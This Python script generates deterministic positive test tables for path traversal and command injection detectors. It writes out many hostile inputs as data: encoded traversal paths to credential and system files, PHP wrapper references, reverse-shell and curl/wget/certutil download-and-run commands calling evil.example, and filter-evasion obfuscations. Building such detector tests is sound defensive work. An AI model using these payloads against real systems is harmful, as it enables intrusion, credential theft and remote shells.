#!/usr/bin/env python3
"""gen-trav-cmdi.py - write the generated positive tables for the path
traversal and command injection detectors: tests/data/gen-trav.txt and
tests/data/gen-cmdi.txt, one value a line, as it would arrive in a query
string (bytes a URL cannot carry raw are percent-encoded).

Written from each attack's grammar, not copied from any list:
  traversal: prefix (nothing, '/', './', a directory) x ascent (one to
        eight parent steps: '..', '...', '....//', '..;', '..' with
        trailing dots or spaces) x spelling of '.' and of the separator
        (raw, %XX, %25XX, %uXXXX, overlong UTF-8 of two and three bytes,
        broken overlong, overlong read by its low six bits (%c1%af), hex
        digits past 'f' a lax decoder still adds up (%bg%qf), full-width and look-alike code points, '0x2e')
        x sensitive target (Unix, Windows, Java, web server, VCS, env)
        x suffix (nothing, NUL before an extension); plus absolute and
        wrapper references without ascent (/etc/passwd, c:\\windows\\win.ini,
        file:///, \\\\?\\, UNC, php://filter, expect://, zip://).
  command:   context closer (nothing, ', ", a value then any of these)
        x separator (; | || && & newline %0a, `...`, $(...)) x command
        (Unix readers, network tools, interpreters; Windows cmd /c,
        powershell -enc, type, dir c:\\) x obfuscation (${IFS}, $IFS$9,
        brace expansion, quote splitting c'a't, backslash c\\at, globs
        /???/c?t, ^ escapes, %COMSPEC%) x trailer (nothing, #, a closing
        quote).
Deterministic (seeded). Usage: tools/gen-trav-cmdi.py [DIR] (default
tests/data)."""
import os
import random
import sys
import urllib.parse

R = random.Random(20)

DOT = ['.', '%2e', '%2E', '%252e', '%u002e', '%c0%ae', '%e0%80%ae', '%c0%2e',
       '%ef%bc%8e', '0x2e', '%25c0%25ae', '%f0%80%80%ae', '%c1%ae', '%uff0e']
SEP = ['/', '\\', '%2f', '%5c', '%252f', '%255c', '%u2215', '%u2216', '%c0%af',
       '%c1%9c', '%e0%80%af', '%ef%bc%8f', '%c0%5c', '0x2f', '0x5c', '%u002f',
       '%u005c', '%25c0%25af', '%e2%88%95', '%c1%af', '%c1%1c', '%bg%qf', '%c0%9v']
UNIX = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'proc/self/environ',
        'proc/self/cmdline', 'proc/1/maps', 'var/log/apache2/access.log',
        'var/log/nginx/error.log', 'root/.ssh/id_rsa', 'root/.bash_history',
        'etc/nginx/nginx.conf', 'home/user/.aws/credentials', 'usr/local/app/.env']
WIN = ['windows/win.ini', 'boot.ini', 'windows/system32/drivers/etc/hosts',
       'winnt/win.ini', 'inetpub/wwwroot/web.config', 'windows/repair/sam',
       'windows/panther/unattend.xml']
APP = ['WEB-INF/web.xml', '.htaccess', '.env', '.git/config', 'config/database.yml',
       'app/etc/local.xml', 'wp-config.php', 'META-INF/MANIFEST.MF', '.htpasswd',
       'application.properties', 'index.php']
DIRS = ['', '/', './', 'images/', '/var/www/html/', 'static/img/', 'a/b/']


def ascent_unit(d, s):
    kind = R.random()
    if kind < 0.70:
        return d + d + s
    if kind < 0.78:
        return d + d + d + s          # ".../" climbs on Windows
    if kind < 0.86:
        return d + d + d + d + s + s  # "....//" survives one strip of "../"
    if kind < 0.92:
        return d + d + ';' + s        # tomcat "..;/"
    return d + d + R.choice(['.', ' ', '%20', '%2e%20']) + s


def trav():
    out = set()
    for _ in range(6000):
        d, s = R.choice(DOT), R.choice(SEP)
        if R.random() < 0.2:
            s2 = R.choice(SEP)      # mixed separators
        else:
            s2 = s
        tgt = R.choice(UNIX + WIN + APP)
        depth = R.randint(1, 8) if tgt not in APP else R.randint(1, 4)
        v = R.choice(DIRS)
        for k in range(depth):
            v += ascent_unit(d, s if k % 2 == 0 else s2)
        if R.random() < 0.15:
            tgt = tgt.upper() if R.random() < 0.5 else tgt.title()
        t = tgt.replace('/', s2 if R.random() < 0.5 else s)
        v += t
        r = R.random()
        if r < 0.12:
            v += '%00' + R.choice(['.png', '.jpg', '.html', '.php', ''])
        elif r < 0.18:
            v += R.choice(['%00', '\\0'.replace('\\0', '%2500')])
        out.add(v)
    for tgt in UNIX:
        for pre in ['/', 'file://', 'file:///', 'file:/', 'FILE:///', '%2f', '//', '/./', '/%2e/']:
            out.add(pre + tgt)
            out.add(pre + tgt + '%00.jpg')
    for tgt in WIN:
        for pre in ['c:\\', 'C:/', 'c:%5c', 'file:///c:/', '\\\\?\\c:\\', '\\\\localhost\\c$\\',
                    '\\\\127.0.0.1\\c$\\', 'd:\\..\\', '%5c%5c%3f%5cc:%5c']:
            out.add(pre + tgt.replace('/', '\\' if '\\' in pre else '/'))
    for w in ['php://filter/convert.base64-encode/resource=index.php',
              'php://filter/read=string.rot13/resource=config.php',
              'PHP://filter/resource=/etc/passwd', 'php://input', 'php://fd/3',
              'expect://id', 'expect://ls', 'zip://uploads/a.zip%23shell.php',
              'phar://uploads/a.jpg/shell.php', 'data://text/plain;base64,PD9waHA=',
              'compress.zlib://file:///etc/passwd', 'glob:///var/www/*']:
        out.add(w)
        out.add(urllib.parse.quote(w, safe=''))
    return sorted(out)


SEPS = [';', '|', '||', '&&', '&', '\n', '%0a', '%0d%0a', '\r\n', '%3b', '%7c', '%26%26']
UCMD = ['cat /etc/passwd', 'id', 'whoami', 'uname -a', 'ls -la /', 'sleep 5', 'ping -c 3 10.0.0.1',
        'nc -e /bin/sh 10.0.0.1 4444', 'curl http://evil.example/x|sh', 'wget http://evil.example/s -O /tmp/s',
        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'python -c "import os;os.system(\'id\')"',
        'perl -e "print 1"', 'echo vulnerable', 'head /etc/shadow', 'rm -rf /tmp/x', 'nslookup evil.example',
        'sh -c id', 'busybox nc 10.0.0.1 4444 -e sh', 'php -r "system(\'id\');"', 'env', 'ifconfig',
        'cat</etc/passwd', 'tail -n 5 /var/log/auth.log', 'base64 -d <<< aWQ= | sh']
WCMD = ['cmd /c whoami', 'cmd.exe /c dir c:\\', 'powershell -enc SQBFAFgA', 'powershell -nop -c iex(1)',
        'type c:\\windows\\win.ini', 'dir c:\\', 'net user', 'ipconfig /all', 'whoami /priv',
        '%COMSPEC% /c ver', 'certutil -urlcache -f http://evil.example/a a.exe', 'ping -n 3 127.0.0.1',
        'systeminfo', 'tasklist']
CLOSE = ['', "'", '"', '1', '127.0.0.1', 'x.jpg', "x'", 'x"', 'foo ']


def obf(cmd):
    r = R.random()
    w = cmd.split(' ')
    if r < 0.15 and len(w) > 1:
        return R.choice(['${IFS}', '$IFS$9', '${IFS%??}', '\t', '%09', '<']).join(w)
    if r < 0.25 and len(w) > 1:
        return '{' + ','.join(w) + '}'
    if r < 0.35:
        c = w[0]
        if len(c) > 2:
            k = R.randint(1, len(c) - 1)
            if R.random() < 0.5:
                c = c[:k] + R.choice(["'" + c[k] + "'", '"' + c[k] + '"']) + c[k + 1:]
            else:
                c = c[:k] + R.choice(["''", '""', '\\']) + c[k:]
        return ' '.join([c] + w[1:])
    if r < 0.42 and w[0] in ('cat', 'head', 'tail'):
        return ' '.join(['/???/' + w[0][0] + '?' * (len(w[0]) - 1)] + w[1:])
    if r < 0.48:
        return ' '.join(['/bin/' + w[0] if '/' not in w[0] else w[0]] + w[1:])
    return cmd


def wobf(cmd):
    r = R.random()
    if r < 0.2:
        c = cmd.split(' ')
        c[0] = '^'.join(c[0]) if len(c[0]) < 8 else c[0]
        return ' '.join(c)
    if r < 0.3:
        return cmd.upper()
    return cmd


def cmdi():
    out = set()
    for _ in range(5000):
        close = R.choice(CLOSE)
        win = R.random() < 0.25
        cmd = wobf(R.choice(WCMD)) if win else obf(R.choice(UCMD))
        r = R.random()
        if r < 0.2 and not win:
            v = close + R.choice(['`' + cmd + '`', '$(' + cmd + ')', ';`' + cmd + '`', '|$(' + cmd + ')'])
        else:
            sep = R.choice(['&', '&&', '|', '||', '\n', '%0a']) if win else R.choice(SEPS)
            v = close + sep + R.choice(['', ' ']) + cmd
        q = close[:1] if close[:1] in ("'", '"') else (close[-1:] if close[-1:] in ("'", '"') else '')
        t = R.random()
        if t < 0.15:
            v += ' #' if not win else ' REM'
        elif t < 0.3 and q:
            v += R.choice([';' + q, ' ' + q, '&' + q if win else ' #' + q])
        v = v.replace('\r', '%0d').replace('\n', '%0a').replace('\t', '%09')
        v = v.replace('#', '%23').replace('&', '%26').replace('+', '%2b').replace(' ', R.choice(['+', '%20']))
        out.add(v)
    return sorted(out)


def main():
    d = sys.argv[1] if len(sys.argv) > 1 else 'tests/data'
    for name, lines in (('gen-trav.txt', trav()), ('gen-cmdi.txt', cmdi())):
        with open(os.path.join(d, name), 'w') as f:
            for l in lines:
                assert '\n' not in l and '\r' not in l
                f.write(l + '\n')
        print('%s: %d lines' % (name, len(lines)))


if __name__ == '__main__':
    main()
